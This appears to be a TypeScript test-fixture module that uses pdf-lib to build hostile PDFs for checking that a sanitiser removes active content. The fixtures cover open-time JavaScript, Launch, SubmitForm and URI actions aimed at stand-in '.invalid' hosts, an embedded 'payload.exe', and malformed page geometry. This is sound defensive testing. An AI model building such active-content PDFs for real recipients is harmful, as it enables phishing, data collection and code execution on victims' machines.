import { PDFDocument, PDFHexString, PDFName, PDFString, StandardFonts, type PDFObject, type PDFRef } from 'pdf-lib';

/** Strings an attacker planted; none of them may appear in a pack (checked on the decompressed bytes). */
export const ATTACK = {
  openJs: 'app.alert("vw-open-js")',
  pageJs: 'app.launchURL("http://vw-page-aa.invalid")',
  linkJs: 'this.exportDataObject({cName:"vw-link-js"})',
  launch: 'vw-launch-calc.exe',
  submit: 'http://vw-submit.invalid/collect',
  uri: 'http://vw-uri.invalid/phish',
  widgetJs: 'event.value = "vw-widget-js"',
  embedded: 'vw-embedded-file-payload',
  parked: 'app.alert("vw-parked-js")',
};

/**
 * A PDF with every kind of active content: page-open JavaScript (catalog /OpenAction and
 * /Names/JavaScript), a page /AA, JavaScript/Launch/SubmitForm/URI links, a form field whose
 * widget has /AA, a file attachment, an unreferenced JavaScript action — and one internal
 * GoTo link to page 2, which must survive. The visible text names the web address.
 */
export async function activePdf(): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const p1 = doc.addPage([595.28, 841.89]);
  const p2 = doc.addPage([595.28, 841.89]);
  p1.drawText('Stellungnahme mit Verweis auf vw-uri.invalid/phish', { x: 50, y: 700, size: 12, font });
  p2.drawText('Zweite Seite', { x: 50, y: 700, size: 12, font });
  const ctx = doc.context;
  const js = (code: string) => ctx.obj({ Type: 'Action', S: 'JavaScript', JS: PDFString.of(code) });
  const link = (y: number, action: PDFObject) =>
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [50, y, 300, y + 20], Border: [0, 0, 0], A: action }));

  doc.catalog.set(PDFName.of('OpenAction'), ctx.register(js(ATTACK.openJs)));
  const jsTree = ctx.obj({ Names: [PDFHexString.fromText('start'), ctx.register(js(ATTACK.openJs))] });
  const embedded = ctx.register(ctx.stream(new TextEncoder().encode(ATTACK.embedded), { Type: 'EmbeddedFile' }));
  const fileSpec = ctx.obj({ Type: 'Filespec', F: PDFString.of('payload.exe'), EF: { F: embedded } });
  doc.catalog.set(PDFName.of('Names'), ctx.obj({ JavaScript: jsTree, EmbeddedFiles: ctx.obj({ Names: [PDFHexString.fromText('payload.exe'), fileSpec] }) }));
  ctx.register(js(ATTACK.parked));

  p1.node.set(PDFName.of('AA'), ctx.obj({ O: js(ATTACK.pageJs), C: js(ATTACK.pageJs) }));
  const widget = ctx.register(
    ctx.obj({
      Type: 'Annot',
      Subtype: 'Widget',
      FT: 'Tx',
      T: PDFString.of('feld'),
      Rect: [50, 400, 300, 420],
      AA: ctx.obj({ K: js(ATTACK.widgetJs), F: js(ATTACK.widgetJs) }),
      A: js(ATTACK.widgetJs),
    }),
  );
  const annots: PDFRef[] = [
    link(650, js(ATTACK.linkJs)),
    link(620, ctx.obj({ S: 'Launch', F: PDFString.of(ATTACK.launch), Win: ctx.obj({ F: PDFString.of(ATTACK.launch) }) })),
    link(590, ctx.obj({ S: 'SubmitForm', F: ctx.obj({ FS: 'URL', F: PDFString.of(ATTACK.submit) }), Flags: 4 })),
    link(560, ctx.obj({ S: 'URI', URI: PDFString.of(ATTACK.uri) })),
    link(530, ctx.obj({ S: 'GoTo', D: [p2.ref, PDFName.of('Fit')], Next: js(ATTACK.linkJs) })),
    widget,
    ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'FileAttachment', Rect: [50, 300, 70, 320], FS: fileSpec })),
  ];
  p1.node.set(PDFName.of('Annots'), ctx.obj(annots));
  doc.catalog.set(PDFName.of('AcroForm'), ctx.obj({ Fields: [widget], XFA: PDFString.of('<xdp>vw-xfa</xdp>') }));
  return doc.save({ useObjectStreams: false });
}

/** Page geometry an attacker (or a broken scanner driver) writes. */
export type BrokenGeometry = 'mediabox-string' | 'mediabox-ref-to-ref' | 'mediabox-zero' | 'mediabox-huge' | 'rotate-string' | 'cropbox-outside';

export async function brokenGeometryPdf(kind: BrokenGeometry): Promise<Uint8Array> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595.28, 841.89]);
  page.drawText(`Seite mit kaputtem Format (${kind})`, { x: 50, y: 700, size: 12, font });
  const ctx = doc.context;
  const set = (key: string, value: Parameters<typeof ctx.obj>[0]) => page.node.set(PDFName.of(key), ctx.obj(value));
  switch (kind) {
    case 'mediabox-string':
      page.node.set(PDFName.of('MediaBox'), PDFString.of('0 0 595 842'));
      break;
    case 'mediabox-ref-to-ref': {
      const inner = ctx.register(ctx.obj([0, 0, 595, 842]));
      page.node.set(PDFName.of('MediaBox'), ctx.register(inner));
      break;
    }
    case 'mediabox-zero':
      set('MediaBox', [0, 0, 0, 0]);
      break;
    case 'mediabox-huge':
      set('MediaBox', [0, 0, 1e9, 1e9]);
      break;
    case 'rotate-string':
      page.node.set(PDFName.of('Rotate'), PDFString.of('neunzig'));
      break;
    case 'cropbox-outside':
      set('CropBox', [5000, 5000, 6000, 6000]);
      break;
  }
  return doc.save({ useObjectStreams: false });
}
